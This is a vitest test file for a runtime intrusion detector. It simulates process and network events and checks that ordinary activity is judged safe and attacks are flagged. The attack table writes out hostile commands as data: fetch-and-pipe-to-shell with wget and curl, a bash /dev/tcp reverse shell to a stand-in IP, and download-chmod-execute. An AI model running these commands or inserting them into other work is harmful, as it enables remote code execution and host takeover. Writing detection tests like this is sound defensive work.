import { describe, expect, it } from 'vitest';
import { loadAdvisoryTable } from '../../packages/candor/src/advisories/load-table.js';
import { evaluate } from '../../packages/candor/src/evaluate.js';
import { type Scene, type SceneStep, twoHalves } from '../../packages/candor/src/parsers/testing/two-halves.js';
import { momentBundle, type Piece } from '../moments/bundle-builder.js';
import { healthyApp, healthyAt, healthyBundle } from '../moments/healthy-bundle.js';

const until = new Date(healthyAt);
const from = new Date(until.getTime() - 300_000);
/** pid 4200 is Node in the container of the well-kept host. */
const scene: Scene = { from, until, sensorPid: 1, hostPid: 4200 };

function judge(
  steps: readonly SceneStep[],
  change: (pieces: { sensor: string; audit: string }) => Partial<{ sensor: string; audit: string }> = (same) => same,
) {
  const { sensor, audit } = change(twoHalves(scene, steps));
  const bundle = momentBundle(
    healthyBundle((pieces) => [
      ...pieces.filter((piece) => piece.id !== 'sensor.events' && piece.id !== 'audit.log'),
      ...(sensor === undefined ? [] : [{ id: 'sensor.events', subject: healthyApp, text: sensor } satisfies Piece]),
      ...(audit === undefined
        ? []
        : [{ id: 'audit.log', text: audit, file: '/var/log/audit/audit.log' } satisfies Piece]),
    ]),
  );
  const report = evaluate(bundle, { advisories: loadAdvisoryTable(bundle.header.capturedAt) });
  expect(report.results.filter((result) => result.state === 'error')).toEqual([]);
  const of = (check: string) => report.results.filter((result) => result.check === check).map((result) => result.state);
  return {
    verdict: report.verdict.status,
    failed: report.results
      .filter((result) => result.state === 'fail' && /^(?:RTC|SNS)-/.test(result.check))
      .map((result) => result.check),
    rules: report.rules.map((rule) => rule.rule),
    of,
  };
}

/** What this stack starts in ordinary work (recipes/benign-processes.json, and a radio's own scripts). */
const ordinary: readonly (readonly [string, readonly SceneStep[]])[] = [
  ['nothing', []],
  ['ffprobe', [{ argv: ['ffprobe', '-v', 'quiet', '-print_format', 'json', '/media/a show.mp3'], inRequest: true }]],
  [
    'rsync through a script',
    [
      { argv: ['bash', '/app/scripts/sh/archive/rsync_pull.sh', '2025-12-01'], pid: 6000 },
      { argv: ['rsync', '-a', '-e', 'ssh -p 22', 'archive@192.168.1.5:/srv/', '/media/archive/'], parentPid: 6000 },
    ],
  ],
  ['psql', [{ argv: ['psql', '-h', 'db', '-c', 'select 1'] }]],
  ['git config', [{ argv: ['/bin/sh', '-c', 'git config --local --get remote.origin.url'] }]],
  ['sharp generates code at start', [{ code: 'return this', provenance: 'dep:sharp' }]],
  [
    'next build',
    [
      { argv: ['/usr/bin/env', 'node', '/app/node_modules/.bin/next', 'build'], by: 'kernel', parentPid: 700 },
      { argv: ['node', '/app/node_modules/next/dist/compiled/jest-worker/processChild.js'], provenance: 'dep:next' },
      { argv: ['getconf', 'GNU_LIBC_VERSION'], provenance: 'dep:detect-libc' },
    ],
  ],
  [
    'a feed is fetched and read',
    [
      { argv: ['curl', '-s', '-o', '/app/data/feed.json', 'http://127.0.0.1:3000/feed.json'] },
      { argv: ['node', '/app/scripts/import.js', '/app/data/feed.json'] },
    ],
  ],
  ['the database is asked', [{ peer: '172.18.0.2:27017', provenance: 'dep:mongodb', inRequest: true }]],
  ['an administrator looks around in a shell of his own', [{ argv: ['date'], by: 'kernel', parentPid: 812 }]],
  ['docker exec', [{ argv: ['sh'], by: 'kernel', parentPid: 690 }]],
];

describe('what both halves saw and is ordinary', () => {
  it.each(ordinary)('%s', (_, steps) => {
    const { verdict, failed, rules } = judge(steps);
    expect([verdict, failed, rules.filter((rule) => rule === 'SENSOR_BYPASSED')]).toEqual(['SAFE', [], []]);
  });
});

const code = { severity: 'critical', inRequest: true } as const;
const attacks: readonly (readonly [string, readonly SceneStep[], string])[] = [
  ['fetch and run', [{ argv: ['/bin/sh', '-c', 'wget -qO- http://203.0.113.9/a | sh'] }], 'RTC-10'],
  [
    'evaluated code starts something harmless in a request',
    [{ argv: ['git', 'status'], provenance: 'eval', ...code }],
    'RTC-09',
  ],
  ['no frame of the app in a request', [{ argv: ['date'], provenance: 'orphan', ...code }], 'RTC-09'],
  [
    'the environment is read, nothing is started',
    [{ code: 'return process.env', provenance: 'eval', ...code }],
    'RTC-09',
  ],
  ['evaluated code sends something away', [{ peer: '203.0.113.9:443', provenance: 'eval', ...code }], 'RTC-09'],
  [
    'write, then execute',
    [
      { argv: ['curl', '-s', '-o', '/app/x', 'http://203.0.113.9/x'] },
      { argv: ['chmod', '+x', '/app/x'] },
      { argv: ['/app/x'] },
    ],
    'RTC-10',
  ],
  [
    'write in one script, execute by another start',
    [{ argv: ['cp', '/bin/busybox', '/tmp/k'] }, { argv: ['/tmp/k', 'sh'] }],
    'RTC-10',
  ],
  ['a reverse shell in one command', [{ argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }], 'RTC-10'],
  ['a shell on a connection of the process', [{ peer: '203.0.113.9:4444' }, { argv: ['/bin/sh', '-i'] }], 'RTC-10'],
  ['past the sensor', [{ argv: ['date'] }, { argv: ['/app/run'], by: 'kernel' }], 'RTC-23'],
  ['an attack past the sensor', [{ argv: ['sh', '-c', 'curl http://203.0.113.9/a|sh'], by: 'kernel' }], 'RTC-10'],
  ['hooks were taken off', [{ tampered: ['spawn'] }], 'SNS-08'],
];

describe('what an attack looks like from both sides', () => {
  it.each(attacks)('%s', (_, steps, check) => {
    const { verdict, failed } = judge(steps);
    expect(failed).toContain(check);
    expect(verdict).toBe(check.startsWith('RTC') ? 'COMPROMISED' : 'AT RISK');
  });
});

describe('near misses of the attacks', () => {
  it.each<[string, SceneStep[], string]>([
    ['a shell that talks to nobody', [{ argv: ['/bin/sh', '-i'] }], 'RTC-10'],
    ['a shell, and a connection to the own database', [{ peer: '172.18.0.2:27017' }, { argv: ['sh', '-i'] }], 'RTC-10'],
    ['a shell, and a known webhook', [{ peer: '203.0.113.9:443', known: true }, { argv: ['sh', '-i'] }], 'RTC-10'],
    [
      'critical code outside of a request',
      [{ code: 'return process.env', provenance: 'eval', severity: 'critical' }],
      'RTC-09',
    ],
    [
      'what ran was written by nobody',
      [{ argv: ['ffmpeg', '-i', 'a', '/tmp/b.mp3'] }, { argv: ['ffprobe', '/tmp/b.mp3'] }],
      'RTC-10',
    ],
  ])('%s', (_, steps, check) => {
    expect(judge(steps).failed).not.toContain(check);
  });
});

describe('what one half alone proves', () => {
  const past: readonly SceneStep[] = [{ argv: ['date'] }, { argv: ['/app/run'], by: 'kernel' }];

  it('a bypass makes the silence of that sensor worth nothing', () => {
    expect(judge(past).rules).toContain('SENSOR_BYPASSED');
  });

  it.each<[string, SceneStep[]]>([
    ['lines of the sensor are missing', [...past, { argv: ['date'], skip: 4 }]],
    ['the sensor was silent at that time', [{ argv: ['date'] }, { argv: ['/app/run'], by: 'kernel', afterSec: 60 }]],
  ])('no claim when %s', (_, steps) => {
    const { failed, rules } = judge(steps);
    expect(failed).not.toContain('RTC-23');
    expect(rules).not.toContain('SENSOR_BYPASSED');
  });

  it('lost lines make the coverage partial, and the verdict says that it cannot tell', () => {
    const { verdict, of } = judge([{ argv: ['date'], skip: 4 }]);
    expect([verdict, of('RTC-10'), of('SNS-15')]).toEqual(['INCONCLUSIVE', ['unknown'], ['unknown']]);
  });

  it('a pause of the sensor is told', () => {
    expect(judge([{ argv: ['date'] }, { argv: ['date'], afterSec: 120 }]).failed).toEqual(['SNS-08']);
  });

  it('the kernel that does not tell a start is blind', () => {
    expect(judge([{ argv: ['date'] }, { argv: ['date'], by: 'process' }]).failed).toEqual(['SNS-15']);
  });

  it('without the kernel nothing is compared, and nothing is worse for it', () => {
    const { verdict, of } = judge([{ argv: ['date'] }], ({ sensor }) => ({ sensor }));
    expect([verdict, of('RTC-23'), of('SNS-15')]).toEqual(['SAFE', ['unknown'], ['unknown']]);
  });

  it('both halves in agreement pass', () => {
    const { of } = judge([{ argv: ['date'] }]);
    expect([of('RTC-23'), of('SNS-15')]).toEqual([['pass'], ['pass']]);
  });
});
